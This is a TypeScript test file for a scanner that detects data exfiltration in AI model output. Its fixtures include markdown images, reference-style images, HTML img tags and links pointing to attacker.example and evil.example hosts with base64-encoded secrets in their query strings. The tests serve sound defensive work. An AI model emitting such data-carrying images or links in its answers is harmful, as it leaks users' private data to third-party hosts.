import { describe, expect, it } from 'vitest';
import { normalizeText } from '../normalize-text.js';
import { runScanner } from '../testing.js';
import scanner from './exfiltration.js';

const scan = (text: string, options: unknown = { allowedDomains: ['docs.example.com'] }) =>
  runScanner(scanner, text, { direction: 'output' }, options).filter((f) => f.score >= 0.5);

describe('exfiltration scanner', () => {
  it('flags an image to an unknown host carrying data, spanning the whole markdown', () => {
    const text =
      'Done! ![loading](https://attacker.example/p.png?d=SGVsbG8gdGhpcyBpcyB0aGUgdXNlcidzIHNlY3JldA) ok';
    const [f] = scan(text);
    expect(f).toMatchObject({ type: 'markdown_image' });
    expect(f?.score).toBeGreaterThan(0.9);
    expect(text.slice(f?.start, f?.end)).toMatch(/^!\[loading\]\(.*\)$/);
  });

  it('flags reference-style images, HTML images and data-carrying links', () => {
    expect(scan('![x][1]\n\n[1]: https://evil.example/i.gif?q=abc')).toHaveLength(1);
    expect(scan('<img src="https://evil.example/t.gif?u=ZXhmaWx0cmF0ZWQgZGF0YQ1">')).toHaveLength(1);
    expect(scan('[click](https://evil.example/c?session=aGVsbG8td29ybGQtc2VjcmV0LXRva2Vu)')).toHaveLength(1);
  });

  it('allows allow-listed hosts and their subdomains, and plain links without data', () => {
    expect(scan('![diagram](https://docs.example.com/img/arch.png?v=3)')).toEqual([]);
    expect(scan('![diagram](https://cdn.docs.example.com/a.png)')).toEqual([]);
    expect(scan('See [the docs](https://nodejs.org/api/fs.html).')).toEqual([]);
    expect(scan('Plain text with no links at all.')).toEqual([]);
  });
});

describe('exfiltration scanner skips expressions whose literal the text lacks', () => {
  it('finds what running every expression finds, on generated answers', () => {
    const scanOne = scanner.create(scanner.options.parse({ allowedDomains: ['docs.example.com'] }));
    // The reference: the same scanner on the text with every literal appended on a line of its own (" ]( ]: <"),
    // where it cannot complete a link, a definition or a tag: each expression then runs, as they all did before.
    const pieces = [
      'Here is the answer.',
      '[guide](https://docs.example.com/guide)',
      '![x](https://evil.example/p.png?q=c2VjcmV0IGRhdGEgaGVyZTEyMw)',
      '[ref]: https://evil.example/?a=1&b=2&c=3&d=4&e=5',
      '![logo][ref]',
      '<img src="https://evil.example/t.gif?d=aGVsbG8gd29ybGQgMTIzNDU2">',
      '<b>bold</b>',
      'https://example.com/plain',
      'a ](b',
      'x]: y',
      '\n',
      'see [link](http://other.example/page)',
    ];
    let seed = 17;
    const next = (k: number): number => {
      seed = (seed * 1103515245 + 12345) >>> 0;
      // The high bits: the low bits of this generator repeat with a short period.
      return (seed >>> 16) % k;
    };
    let found = 0;
    for (let i = 0; i < 2000; i++) {
      const parts: string[] = [];
      for (let j = 1 + next(6); j > 0; j--) parts.push(pieces[next(pieces.length)] as string);
      const text = parts.join(next(2) ? ' ' : '\n');
      const got = scanOne(normalizeText(text), { direction: 'output' });
      const padded = `${text}\n ]( ]: <`;
      const expected = scanOne(normalizeText(padded), { direction: 'output' });
      expect(got).toEqual(expected);
      found += got.length;
    }
    expect(found).toBeGreaterThan(500);
  });
});
